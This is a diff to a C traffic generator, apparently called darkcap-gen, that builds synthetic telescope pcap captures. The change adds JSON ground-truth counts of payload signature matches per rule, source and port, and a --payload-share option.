@@ -1674,6 +2659,12 @@ static void gen_packet(gen_t *g, frame_t *fr, expect_t *ex, const src_t *wave_sr
     default: die_internal("category");
     }
     build_ip(g, fr, ex);
+}
+
+static void gen_packet(gen_t *g, frame_t *fr, expect_t *ex, const src_t *wave_src, int wave_port)
+{
+    gen_packet_1(g, fr, ex, wave_src, wave_port);
+    truth_payload(ex, fr->l3, fr->l4, fr->len);
 }
 
 /* ------------------------------------------------------------------------ */
@@ -2278,6 +3269,231 @@ static void uq_put_total(FILE *f, uq_t *u)
 }
 
 /* ------------------------------------------------------------------------ */
+/* signature truth: per interval and in total                                */
+
+typedef struct {
+    uint64_t payload_packets, scanned_bytes, matched_packets;
+    uint64_t pk[SIG_N];
+} sigcnt_t;
+
+#define SIG_SKEY 24             /* rule index (BE 4), family (BE 4: 0 IPv4, 1 IPv6), address (16) */
+#define SIG_PKEY 8              /* rule index (BE 4), proto, port (BE 2), 0 */
+
+typedef struct {
+    sigcnt_t iv, tot;
+    tab_t ivsrc;                /* interval: packets per (rule, source) */
+    tab_t ivport;               /* interval: packets per (rule, proto, port) */
+    tab_t rsrc;                 /* whole run: (rule, source) seen */
+    tab_t rport;                /* whole run: packets per (rule, proto, port) */
+    uint64_t rsrcn[SIG_N];      /* whole run: distinct sources per rule */
+    /* whole run, what the traffic exercised (for the tests' own checks) */
+    uint64_t decoy, off_port, short_scan, v6_matched, tcp_matched, udp_matched;
+    const uint8_t **sorted;
+    size_t capsorted;
+} sigt_t;
+
+static void sigt_init(sigt_t *t)
+{
+    memset(t, 0, sizeof(*t));
+    tab_init(&t->ivsrc, SIG_SKEY, 8, true);
+    tab_init(&t->ivport, SIG_PKEY, 8, true);
+    tab_init(&t->rsrc, SIG_SKEY, 0, false);
+    tab_init(&t->rport, SIG_PKEY, 8, false);
+}
+
+static void sigt_free(sigt_t *t)
+{
+    tab_free(&t->ivsrc);
+    tab_free(&t->ivport);
+    tab_free(&t->rsrc);
+    tab_free(&t->rport);
+    free(t->sorted);
+    memset(t, 0, sizeof(*t));
+}
+
+static void tab_bump(tab_t *t, const uint8_t *key, uint64_t by, bool *isnew)
+{
+    uint8_t *e = tab_get(t, key, hash_key(key, t->ksz), isnew);
+    if (t->esz > t->voff) {
+        uint64_t v;
+        memcpy(&v, e + t->voff, 8);
+        v += by;
+        memcpy(e + t->voff, &v, 8);
+    }
+}
+
+/* Account one frame's payload: scanned bytes, and the rules its template
+ * declared that the scan reaches and whose filter accepts the packet. */
+static void sig_add(sigt_t *t, const expect_t *e)
+{
+    if (e->sig.decoy) t->decoy++;
+    if (!e->paylen) return;
+    CHECK((e->cat == CAT_V4 || e->cat == CAT_V6) && !e->frag && (e->l4 == L4_TCP || e->l4 == L4_UDP));
+    uint32_t s = e->paylen < SIG_PAYLOAD_MAX ? e->paylen : SIG_PAYLOAD_MAX;
+    uint8_t proto = e->l4 == L4_TCP ? 6 : 17;
+    int v6 = e->cat == CAT_V6;
+    int hit[SIG_ANN_MAX], nhit = 0;
+    for (int i = 0; i < e->sig.n; i++) {
+        const sigm_t *m = &e->sig.m[i];
+        CHECK(s >= m->hi || s < m->lo);         /* never a scan ending inside [lo, hi) */
+        int idx = sig_index(m->id);
+        if (s < m->lo) { t->short_scan++; continue; }
+        if (!sig_accepts(idx, proto, e->dport)) { t->off_port++; continue; }
+        bool dup = false;
+        for (int j = 0; j < nhit; j++) dup |= hit[j] == idx;
+        if (!dup) hit[nhit++] = idx;
+    }
+    for (int w = 0; w < 2; w++) {
+        sigcnt_t *c = w ? &t->tot : &t->iv;
+        c->payload_packets++;
+        c->scanned_bytes += s;
+        c->matched_packets += nhit > 0;
+        for (int j = 0; j < nhit; j++) c->pk[hit[j]]++;
+    }
+    if (!nhit) return;
+    t->v6_matched += v6;
+    t->tcp_matched += proto == 6;
+    t->udp_matched += proto == 17;
+    for (int j = 0; j < nhit; j++) {
+        uint8_t sk[SIG_SKEY], pk[SIG_PKEY];
+        bool isnew;
+        memset(sk, 0, sizeof(sk));
+        put32(sk, (uint32_t)hit[j]);
+        put32(sk + 4, (uint32_t)v6);
+        memcpy(sk + 8, e->src, v6 ? 16 : 4);
+        memset(pk, 0, sizeof(pk));
+        put32(pk, (uint32_t)hit[j]);
+        pk[4] = proto;
+        put16(pk + 5, e->dport);
+        tab_bump(&t->ivsrc, sk, 1, &isnew);
+        tab_bump(&t->ivport, pk, 1, &isnew);
+        tab_bump(&t->rport, pk, 1, &isnew);
+        tab_bump(&t->rsrc, sk, 0, &isnew);
+        t->rsrcn[hit[j]] += isnew;
+    }
+}
+
+static int cmp_skey(const void *a, const void *b)
+{
+    return memcmp(*(const uint8_t *const *)a + 4, *(const uint8_t *const *)b + 4, SIG_SKEY);
+}
+
+static int cmp_pkey(const void *a, const void *b)
+{
+    return memcmp(*(const uint8_t *const *)a + 4, *(const uint8_t *const *)b + 4, SIG_PKEY);
+}
+
+/* a table's occupied slots, sorted by key; returns how many */
+static size_t sig_sorted(sigt_t *t, const tab_t *tb, int (*cmp)(const void *, const void *))
+{
+    if (t->capsorted < tb->n) {
+        t->capsorted = tb->n;
+        free(t->sorted);
+        t->sorted = malloc(t->capsorted * sizeof(*t->sorted));
+        if (!t->sorted) die_io("out of memory");
+    }
+    size_t m = 0;
+    if (tb->used) {
+        for (uint64_t j = 0; j < tb->n; j++) t->sorted[m++] = tb->slot + (uint64_t)tb->used[j] * tb->esz;
+    } else {
+        for (uint64_t i = 0; i < tb->cap; i++) {
+            uint32_t tg;
+            memcpy(&tg, tb->slot + i * tb->esz, 4);
+            if (tg) t->sorted[m++] = tb->slot + i * tb->esz;
+        }
+    }
+    CHECK(m == tb->n);
+    if (m > 1) qsort(t->sorted, m, sizeof(*t->sorted), cmp);
+    return m;
+}
+
+static uint32_t key_rule(const uint8_t *slot)
+{
+    const uint8_t *k = slot + 4;
+    return (uint32_t)k[0] << 24 | (uint32_t)k[1] << 16 | (uint32_t)k[2] << 8 | k[3];
+}
+
+static uint64_t slot_u64(const tab_t *tb, const uint8_t *slot)
+{
+    uint64_t v;
+    memcpy(&v, slot + tb->voff, 8);
+    return v;
+}
+
+/* ,"signatures":{...},"signature_scan":{...}; interval: sources by address,
+ * then the interval state is reset; total: distinct sources per rule */
+static void sig_put(FILE *f, sigt_t *t, bool total)
+{
+#define U(x) ((unsigned long long)(x))
+    const sigcnt_t *c = total ? &t->tot : &t->iv;
+    const tab_t *ts = &t->ivsrc, *tp = total ? &t->rport : &t->ivport;
+    /* ports first (the sorted array is reused for the sources) */
+    size_t np = sig_sorted(t, tp, cmp_pkey);
+    char (*ports)[40] = NULL;
+    uint32_t *prule = NULL;
+    if (np) {
+        ports = malloc(np * sizeof(*ports));
+        prule = malloc(np * sizeof(*prule));
+        if (!ports || !prule) die_io("out of memory");
+    }
+    for (size_t i = 0; i < np; i++) {
+        const uint8_t *k = t->sorted[i] + 4;
+        prule[i] = key_rule(t->sorted[i]);
+        snprintf(ports[i], sizeof(ports[i]), "\"%s/%u\":%llu", k[4] == 6 ? "tcp" : "udp", (unsigned)(k[5] << 8 | k[6]),
+                 U(slot_u64(tp, t->sorted[i])));
+    }
+    size_t ns = total ? 0 : sig_sorted(t, ts, cmp_skey);
+    fputs(",\"signatures\":{", f);
+    size_t ip = 0, is = 0;
+    bool first = true;
+    for (uint32_t x = 0; x < SIG_N; x++) {
+        if (!c->pk[x]) {
+            CHECK(ip >= np || prule[ip] != x);
+            continue;
+        }
+        const sigrule_t *sr = &sig_rules[x];
+        fprintf(f, "%s\"%u\":{\"name\":\"%s\",\"family\":\"%s\",\"packets\":%llu,\"sources\":", first ? "" : ",",
+                sr->id, sr->name, sr->family, U(c->pk[x]));
+        first = false;
+        if (total) {
+            fprintf(f, "%llu", U(t->rsrcn[x]));
+        } else {
+            fputc('{', f);
+            uint64_t sum = 0;
+            for (bool f1 = true; is < ns && key_rule(t->sorted[is]) == x; is++, f1 = false) {
+                const uint8_t *k = t->sorted[is] + 4;
+                uint64_t v = slot_u64(ts, t->sorted[is]);
+                fputs(f1 ? "\"" : ",\"", f);
+                put_addr(f, k + 8, k[7]);
+                fprintf(f, "\":%llu", U(v));
+                sum += v;
+            }
+            CHECK(sum == c->pk[x]);
+            fputc('}', f);
+        }
+        fputs(",\"ports\":{", f);
+        for (bool f1 = true; ip < np && prule[ip] == x; ip++, f1 = false) fprintf(f, "%s%s", f1 ? "" : ",", ports[ip]);
+        fputs("}}", f);
+    }
+    CHECK(ip == np && is == ns);
+    fprintf(f, "},\"signature_scan\":{\"payload_packets\":%llu,\"scanned_bytes\":%llu,\"matched_packets\":%llu}",
+            U(c->payload_packets), U(c->scanned_bytes), U(c->matched_packets));
+    if (total)
+        fprintf(f, ",\"signature_checks\":{\"decoy_packets\":%llu,\"off_port\":%llu,\"short_scan\":%llu,"
+                   "\"ipv6_matched\":%llu,\"tcp_matched\":%llu,\"udp_matched\":%llu}",
+                U(t->decoy), U(t->off_port), U(t->short_scan), U(t->v6_matched), U(t->tcp_matched),
+                U(t->udp_matched));
+    free(ports);
+    free(prule);
+    if (!total) {
+        tab_reset(&t->ivsrc);
+        tab_reset(&t->ivport);
+        memset(&t->iv, 0, sizeof(t->iv));
+    }
+#undef U
+}
+
+/* ------------------------------------------------------------------------ */
 /* pcap output                                                               */
 
 typedef struct {
@@ -2453,6 +3669,7 @@ typedef struct {
     bool many_sources;
     bool source_detail;
     bool no_jumbo;
+    double payload_share;
 } cfg_t;
 
 static const char usage_text[] =
@@ -2477,7 +3694,19 @@ static const char usage_text[] =
     "  --top N            sources listed per interval in top_sources (default 100, 0..100000)\n"
     "  --many-sources     draw every packet's source uniformly from a pool of max(packets, 3000)\n"
     "                     addresses (at most 16000000), so distinct sources can exceed a table\n"
-    "  --help             show this help\n";
+    "  --payload-share F  share (0..1) of the frames other than edge cases that carry a signature\n"
+    "                     payload: HTTP exploit requests and downloaders over TCP, UDP probes over\n"
+    "                     IPv4 and IPv6, decoys, some cut by the capture or by a short IP length\n"
+    "                     (default 0.015); the base mix's UDP probes carry signatures too\n"
+    "  --help             show this help\n"
+    "\n"
+    "Truth keys for payload signatures (default rules, sig_payload_max 1024), per interval:\n"
+    "  \"signatures\": {\"ID\": {\"name\", \"family\", \"packets\": N, \"sources\": {\"ADDR\": N, ...},\n"
+    "                 \"ports\": {\"udp/5060\": N, ...}}, ...}   (only rules with packets)\n"
+    "  \"signature_scan\": {\"payload_packets\": P, \"scanned_bytes\": B, \"matched_packets\": M}\n"
+    "and in the total line the same with \"sources\" a distinct count over the run, plus\n"
+    "  \"signature_checks\": {\"decoy_packets\", \"off_port\", \"short_scan\", \"ipv6_matched\",\n"
+    "                       \"tcp_matched\", \"udp_matched\"}   (what the traffic exercised)\n";
 
 static bool parse_u64(const char *s, uint64_t *v)
 {
@@ -2548,7 +3777,7 @@ static void add_outs(cfg_t *c, const char *list)
 static void parse_args(int argc, char **argv, cfg_t *c)
 {
     enum { O_OUT = 1000, O_TRUTH, O_SEED, O_START, O_DAYS, O_PACKETS, O_INTERVAL, O_SPLIT, O_NOEDGE, O_TOP,
-           O_MANY, O_DETAIL, O_NOJUMBO, O_HELP };
+           O_MANY, O_DETAIL, O_NOJUMBO, O_PAYSHARE, O_HELP };
     static const struct option lo[] = {
         {"out", required_argument, NULL, O_OUT},
         {"truth", required_argument, NULL, O_TRUTH},
@@ -2563,6 +3792,7 @@ static void parse_args(int argc, char **argv, cfg_t *c)
         {"many-sources", no_argument, NULL, O_MANY},
         {"source-detail", no_argument, NULL, O_DETAIL},
         {"no-jumbo", no_argument, NULL, O_NOJUMBO},
+        {"payload-share", required_argument, NULL, O_PAYSHARE},
         {"help", no_argument, NULL, O_HELP},
         {NULL, 0, NULL, 0},
     };
@@ -2573,6 +3803,7 @@ static void parse_args(int argc, char **argv, cfg_t *c)
     c->interval = 60;
     c->top = 100;
     c->start = 1648771200;   /* 2022-04-01T00:00:00Z */
+    c->payload_share = PAYLOAD_SHARE;
     opterr = 0;
     for (;;) {
         int prev = optind;
@@ -2624,6 +3855,15 @@ static void parse_args(int argc, char **argv, cfg_t *c)
         case O_MANY: c->many_sources = true; break;
         case O_DETAIL: c->source_detail = true; break;
         case O_NOJUMBO: c->no_jumbo = true; break;
+        case O_PAYSHARE: {
+            char *end;
+            errno = 0;
+            double d = strtod(a, &end);
+            if (errno || end == a || *end || isnan(d) || d < 0 || d > 1)
+                die_usage("--payload-share: invalid value '%s' (want a number from 0 to 1)", a);
+            c->payload_share = d;
+            break;
+        }
         case 'h':
         case O_HELP:
             fputs(usage_text, stdout);
@@ -2684,6 +3924,7 @@ int main(int argc, char **argv)
     }
     g->edge = !cfg.no_edge;
     g->no_jumbo = cfg.no_jumbo;
+    g->payload_share = cfg.payload_share;
 
     /* time shape */
     uint64_t start_us = (uint64_t)cfg.start * 1000000ull;
@@ -2711,6 +3952,8 @@ int main(int argc, char **argv)
     uq_t uq;
     uq_init(&uq);
     uq.detail = cfg.source_detail;
+    static sigt_t sg;
+    sigt_init(&sg);
     uint64_t cur_iv = 0, first_iv = 0, nintervals = 0;
     bool have_iv = false;
 
@@ -2773,6 +4016,7 @@ int main(int argc, char **argv)
                     fputc('{', tf);
                     put_counts(tf, &iv, cur_iv, cur_iv + cfg.interval);
                     uq_put_interval(tf, &uq, cfg.top);
+                    sig_put(tf, &sg, false);
                     fputs("}\n", tf);
                     cnt_reset(&iv);
                 } else {
@@ -2784,6 +4028,7 @@ int main(int argc, char **argv)
             }
             cnt_add(&iv, &ex, (uint32_t)FR.len);
             cnt_add(&tot, &ex, (uint32_t)FR.len);
+            sig_add(&sg, &ex);
 
             /* output */
             int fi = cfg.split_rr ? (int)(rr++ % (uint64_t)cfg.nout) : (int)(FR.key % (uint32_t)cfg.nout);
@@ -2797,6 +4042,7 @@ int main(int argc, char **argv)
         fputc('{', tf);
         put_counts(tf, &iv, cur_iv, cur_iv + cfg.interval);
         uq_put_interval(tf, &uq, cfg.top);
+        sig_put(tf, &sg, false);
         fputs("}\n", tf);
     } else {
         first_iv = cur_iv = (uint64_t)cfg.start / cfg.interval * cfg.interval;
@@ -2804,6 +4050,7 @@ int main(int argc, char **argv)
     fputs("{\"total\":true,", tf);
     put_counts(tf, &tot, first_iv, have_iv ? cur_iv + cfg.interval : first_iv);
     uq_put_total(tf, &uq);
+    sig_put(tf, &sg, true);
     fputs(",\"files\":[", tf);
     for (int i = 0; i < cfg.nout; i++) {
         pw_close(&pw[i]);
@@ -2824,12 +4071,15 @@ int main(int argc, char **argv)
     if (getenv("DARKCAP_GEN_DEBUG")) {
         for (int k = 0; k < E_COUNT; k++)
             fprintf(stderr, "edge %-28s %llu\n", edge_tab[k].name, (unsigned long long)g->kind_count[k]);
+        fprintf(stderr, "payload share: %llu cut by the capture, %llu with a short IP length\n",
+                (unsigned long long)g->pay_cut, (unsigned long long)g->pay_short);
     }
     printf("darkcap-gen: %llu packets, %d files, %llu intervals, %.2f s\n", (unsigned long long)emitted,
            cfg.nout, (unsigned long long)(have_iv ? nintervals : 0), now_s() - t_begin);
     cnt_free(&iv);
     cnt_free(&tot);
     uq_free(&uq);
+    sigt_free(&sg);
     free(sh.dayf);
     free(sh.nw);
     free(sh.waves);
